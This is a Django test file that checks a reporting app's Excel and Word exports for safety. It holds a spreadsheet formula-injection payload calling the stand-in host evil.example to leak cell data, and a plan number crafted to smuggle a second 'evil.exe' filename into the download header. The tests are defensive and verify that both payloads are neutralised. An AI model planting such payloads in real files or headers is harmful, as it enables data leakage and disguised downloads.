"""Downloads of the department: text stays text in the workbooks, one file name per download,
an unknown format is not found."""

from __future__ import annotations

import io
from email.message import Message

from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from tests.orgs.test_admin_views import client_for
from tests.reporting.conftest import member
from ttdn.orgs.models import Role
from ttdn.plans.models import Plan, Task

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'


def test_a_formula_in_a_task_title_stays_text_in_every_export(plan: Plan) -> None:
    Task.objects.filter(plan=plan, code="I").update(title=FORMULA)
    Task.objects.filter(plan=plan, code="IV.5.8").update(title="@SUM(1,2)")
    client = client_for(member("coord", "so-van-hoa-the-thao-va-du-lich", Role.COORDINATOR))
    appendix = client.get(reverse("reporting_provincial_report", args=[plan.pk, "xlsx"]))
    sheet = load_workbook(io.BytesIO(appendix.content)).worksheets[0]
    cells = {row[1].value: row[2] for row in sheet.iter_rows(min_row=2)}
    assert (cells["I"].data_type, cells["I"].value) == ("s", FORMULA)
    assert (cells["IV.5.8"].data_type, cells["IV.5.8"].value) == ("s", "@SUM(1,2)")
    sections = client.get(reverse("reporting_dashboard"), {"export": "sections"})
    sheet = load_workbook(io.BytesIO(sections.content)).worksheets[0]
    first = sheet.cell(2, 1)
    assert (first.data_type, first.value) == ("s", f"I. {FORMULA}")


def test_one_file_name_per_download_and_unknown_formats_are_not_found(plan: Plan) -> None:
    Plan.objects.filter(pk=plan.pk).update(number='69/KH"; filename="evil.exe')
    client = client_for(member("coord", "so-van-hoa-the-thao-va-du-lich", Role.COORDINATOR))
    for fmt in ("docx", "xlsx"):
        response = client.get(reverse("reporting_provincial_report", args=[plan.pk, fmt]))
        assert _parameters(response["Content-Disposition"]) == [
            ("attachment", ""),
            ("filename", f"bao-cao-69-KH-; filename=-evil.exe-{timezone.localdate():%Y%m%d}.{fmt}"),
        ]
    for fmt in ("html", "pdf", 'xlsx"; filename="a.exe', "docx.exe"):
        url = reverse("reporting_provincial_report", args=[plan.pk, "docx"]).replace(
            "report.docx", f"report.{fmt}"
        )
        assert client.get(url).status_code == 404, fmt
    export = client.get(reverse("reporting_dashboard"), {"export": "matrix"})
    assert _parameters(export["Content-Disposition"]) == [
        ("attachment", ""),
        ("filename", "matrix-69-KH-; filename=-evil.exe.xlsx"),
    ]


def _parameters(header: str) -> list[tuple[str, str]]:
    """The header's parameters as a mail parser (RFC 2231) reads them."""
    message = Message()
    message["Content-Disposition"] = header
    return [(key, str(value)) for key, value in message.get_params(header="content-disposition")]
